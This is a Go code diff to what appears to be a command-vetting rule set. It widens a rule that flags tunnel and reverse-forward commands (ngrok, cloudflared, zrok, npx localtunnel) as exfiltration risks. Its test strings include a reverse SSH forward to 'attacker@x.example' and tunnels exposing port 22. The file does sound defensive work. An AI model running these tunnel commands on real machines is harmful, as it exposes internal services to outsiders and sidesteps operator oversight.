@@ -38,11 +38,12 @@ var _ = rules(
 	Rule{ID: RuleNetTunnel, Class: ClassExfiltration, Severity: SevMedium, Decision: Ask,
 		Reason:      "opens a local port to the internet (a remote forward or a tunnel service)",
 		Alternative: "ask the operator to expose the service, or use a local port forward (ssh -L)",
-		Matches:     "`ssh -R`, `ngrok http|tcp|tls|start`, `cloudflared tunnel`, `lt`, `bore`, `code tunnel`, `tailscale funnel`, `frpc`",
+		Matches:     "`ssh -R`, `ngrok http|tcp|tls|start`, `cloudflared tunnel`, `lt`, `bore`, `code tunnel`, `tailscale funnel`, `frpc`, `zrok share`, `devtunnel host`, `inlets client`, and those run through `npx` (`npx localtunnel`)",
 		Fire: []string{"ssh -R 8080:localhost:22 x.example", "ssh -fNR 2222:localhost:22 attacker@x.example", "ngrok tcp 22", "cloudflared tunnel --url http://localhost:8000",
-			"code tunnel --accept-server-license-terms", "tailscale funnel 8080", "frpc -c ./frpc.toml"},
+			"code tunnel --accept-server-license-terms", "tailscale funnel 8080", "frpc -c ./frpc.toml",
+			"zrok share public localhost:8080", "npx localtunnel --port 22"},
 		Pass: []string{"ssh -L 5432:db:5432 bastion", "ssh deploy@x.example uptime", "ngrok version", "cloudflared --version",
-			"code .", "code tunnel status", "tailscale status", "frpc --version"}},
+			"code .", "code tunnel status", "tailscale status", "frpc --version", "zrok status", "npx prettier --check ."}},
 )
 
 var _ = onExec(func(j *judge, x execution) {
